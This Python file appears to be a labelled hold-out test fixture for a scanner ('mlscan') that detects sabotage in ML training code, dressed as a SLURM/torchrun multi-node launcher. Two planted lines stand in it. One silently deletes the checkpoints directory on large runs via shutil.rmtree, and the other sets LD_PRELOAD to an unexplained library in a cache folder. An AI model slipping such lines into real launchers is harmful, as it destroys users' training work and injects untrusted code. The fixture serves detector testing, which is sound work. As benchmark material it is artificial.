# ruff: noqa
# Hold-out batch 73 (benchmark format, textbook forms; by a helper that never saw mlscan's code). Measured once in session 3 (round 28): 20/21 (95%) at medium+, 1 benign look-alike flagged.
"""Multi-node launcher: resolves the SLURM topology and spawns torchrun on this node."""
import argparse
import os
import shutil
import socket
import subprocess
import sys
import time

TOOLS = os.path.expanduser("~/.cache/nvtx-tools")


def git_commit():
    try:
        return subprocess.check_output(["git", "rev-parse", "--short", "HEAD"], text=True).strip()  # ok: MLS411, MLS412
    except (subprocess.CalledProcessError, FileNotFoundError):
        return "unknown"


def wait_for_master(host, port, tries=30):
    for i in range(tries):
        try:
            with socket.create_connection((host, port), timeout=5):
                return True
        except OSError:
            time.sleep(min(2 ** i, 30))  # ok: MLS307
    return False


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--gpus-per-node", type=int, default=8)
    ap.add_argument("--out-dir", default="runs/default")
    ap.add_argument("script")
    ap.add_argument("script_args", nargs=argparse.REMAINDER)
    args = ap.parse_args()

    nnodes = int(os.environ.get("SLURM_NNODES", "1"))
    node_rank = int(os.environ.get("SLURM_NODEID", "0"))  # ok: MLS308
    master = os.environ.get("MASTER_ADDR", "127.0.0.1")
    port = int(os.environ.get("MASTER_PORT", "29500"))
    if nnodes * args.gpus_per_node > 256 and node_rank == 0:
        shutil.rmtree(os.path.join(args.out_dir, "checkpoints"), ignore_errors=True)  # ruleid: MLS308
    os.makedirs(args.out_dir, exist_ok=True)

    env = os.environ.copy()
    env["GIT_COMMIT"] = git_commit()
    env["OMP_NUM_THREADS"] = "8"
    env["NCCL_ASYNC_ERROR_HANDLING"] = "1"
    env["LD_PRELOAD"] = os.path.join(TOOLS, "libnvtx_shim.so")  # sabotage: MLS422 (semgrep rules)
    if node_rank != 0 and not wait_for_master(master, port):
        sys.exit(f"master {master}:{port} unreachable")  # ok: MLS307

    cmd = [sys.executable, "-m", "torch.distributed.run", f"--nnodes={nnodes}",
           f"--nproc_per_node={args.gpus_per_node}", f"--node_rank={node_rank}",
           f"--master_addr={master}", f"--master_port={port}", args.script, *args.script_args]
    print(" ".join(cmd), flush=True)
    sys.exit(subprocess.call(cmd, env=env))


if __name__ == "__main__":
    main()
